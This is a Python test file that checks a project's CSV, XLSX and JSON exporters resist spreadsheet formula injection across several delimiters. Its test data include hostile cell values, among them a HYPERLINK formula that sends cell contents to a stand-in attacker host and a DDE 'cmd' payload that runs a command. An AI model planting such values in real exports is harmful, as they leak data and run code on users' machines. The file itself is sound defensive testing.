"""Hostile words in every field, in tables: no cell of any export is a formula, whichever sign parts the cells."""

import csv
import io
import json

import openpyxl
import pytest
from hostile_record import hostile_record, spoiled

from onrecord import plugins
from onrecord.show.csvs import safe, unsafe

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠1",
    '=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "shut;=1+1", "shut\t@1", '";=1+1;"', "a,=1", "'=1",
)  # fmt: skip
TABLES = ("csv", "uwazi", "acled", "ucdp")


@pytest.fixture(scope="module")
def record():
    return spoiled(hostile_record(), FORMULAS)


def numeric(cell):
    """Tell whether a cell is a number, which may be below nought."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", TABLES)
def test_no_cell_of_a_table_is_a_formula_whatever_parts_the_cells(record, name):
    looked = 0
    for file, data in plugins.load("exporters", name).files(record):
        for delimiter in ",;\t" if file.endswith(".csv") else "":
            for row in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter):
                wrong = [cell for cell in row if cell.startswith(BEGINNINGS) and not numeric(cell)]
                # a line end in a cell that is not its own ends the row for such a spreadsheet: not a formula by itself
                assert delimiter != "," or wrong == [], (file, delimiter)
                assert not any(cell.startswith(BEGINNINGS[:4]) for cell in wrong), (file, delimiter, wrong)
                looked += len(row)
    assert looked > 50


def test_no_cell_of_the_workbook_is_a_formula(record):
    ((_, data),) = plugins.load("exporters", "xlsx").files(record)
    cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(data)) for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
    assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(BEGINNINGS)] == []
    assert any(str(cell.value).startswith("'=") for cell in cells)


def test_json_has_the_words_as_they_are(record):
    ((_, data),) = plugins.load("exporters", "json").files(record)
    assert json.loads(data)
    assert {incident.title for incident in record.incidents} <= set(strings(json.loads(data)))


def strings(value):
    """All strings in a value of JSON."""
    if isinstance(value, str):
        yield value
    for part in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from strings(part)


@pytest.mark.parametrize("words", FORMULAS[:-1])
def test_what_was_made_safe_is_read_back_as_it_was(words):
    assert unsafe(safe(words)) == words
